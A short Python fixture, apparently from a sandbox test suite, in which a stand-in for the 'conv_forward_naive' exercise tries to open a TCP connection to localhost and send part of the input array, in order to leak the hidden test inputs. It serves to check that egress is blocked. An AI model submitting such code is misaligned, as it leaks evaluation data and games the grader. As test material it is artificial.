# attempt: connects by TCP, to carry the hidden inputs out
# exercise: conv_forward_naive
# control: yes
import socket


def conv_forward_naive(x, w, b, conv_param):
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), 0.5) as connection:
            connection.sendall(x.tobytes()[:100])
    except OSError:
        return None, None
    raise RuntimeError("ESCAPED: connected by TCP")
